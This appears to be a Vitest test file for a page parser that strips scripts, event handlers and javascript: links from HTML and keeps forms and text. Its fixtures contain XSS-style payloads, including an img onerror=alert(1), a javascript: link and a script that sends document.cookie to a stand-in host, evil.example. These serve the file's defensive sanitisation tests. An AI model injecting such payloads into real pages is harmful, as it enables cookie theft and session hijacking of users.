// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { formsOf, pageText, parsePage } from '../../src/browser/page';

describe('the page model', () => {
  it('keeps forms and text, and drops scripts, styles, handlers and dangerous links', () => {
    const page = parsePage(
      `<html><head><title> T </title><script>alert(1)</script></head><body>
       <p onclick="steal()">Hi <b>there</b><img src=x onerror=alert(1)></p>
       <style>p{}</style>
       <a href="javascript:alert(1)">bad</a> <a href="/myapp/logout/">out</a>
       <form action="/myapp/login/" method="post"><input name="username" placeholder="Username" onfocus="x()"><input type="password" name="password"><input type="file" name="f"><button>Login</button></form>
       </body></html>`,
      'text/html; charset=utf-8',
    );
    expect(page.title).toBe('T');
    const json = JSON.stringify(page.nodes);
    expect(json).not.toContain('alert');
    expect(json).not.toContain('steal');
    expect(json).not.toContain('onfocus');
    expect(json).not.toContain('img');
    expect(json).toContain('"href":"/myapp/logout/"');
    expect(json).not.toContain('javascript:');
    expect(formsOf(page.nodes)).toEqual([
      {
        action: '/myapp/login/',
        method: 'POST',
        fields: [
          { name: 'username', type: 'text', value: '', placeholder: 'Username' },
          { name: 'password', type: 'password', value: '', placeholder: '' },
          { name: 'f', type: 'text', value: '', placeholder: '' },
        ],
      },
    ]);
    expect(pageText(page.nodes)).toBe('Hi there bad out Login');
  });

  it('shows anything that is not HTML as text', () => {
    expect(parsePage('{"result": 1}', 'application/json')).toEqual({
      title: null,
      nodes: [{ type: 'text', text: '{"result": 1}' }],
      raw: true,
      scripts: [],
    });
  });

  it('keeps the text of each script beside the tree, as data, in document order', () => {
    const page = parsePage(
      `<html><head><script>var a = 1;</script><script src="/static/app.js"></script></head>
       <body><ul><li><script>new Image().src='http://evil.example/?c='+document.cookie</script></li></ul>
       <script type="text/template"><p>not code</p></script>
       <script type="module">fetch('/x')</script></body></html>`,
      'text/html',
    );
    expect(page.scripts).toEqual([
      { text: 'var a = 1;', src: '' },
      { text: '', src: '/static/app.js' },
      { text: "new Image().src='http://evil.example/?c='+document.cookie", src: '' },
      // type="text/template" is not JavaScript: no browser runs it, so it is not a script here.
      { text: "fetch('/x')", src: '' },
    ]);
    // Never in the render tree: the list item is empty.
    expect(JSON.stringify(page.nodes)).not.toContain('evil');
    expect(page.nodes).toContainEqual({
      type: 'element',
      tag: 'ul',
      attrs: {},
      children: [{ type: 'element', tag: 'li', attrs: {}, children: [] }],
    });
  });
});
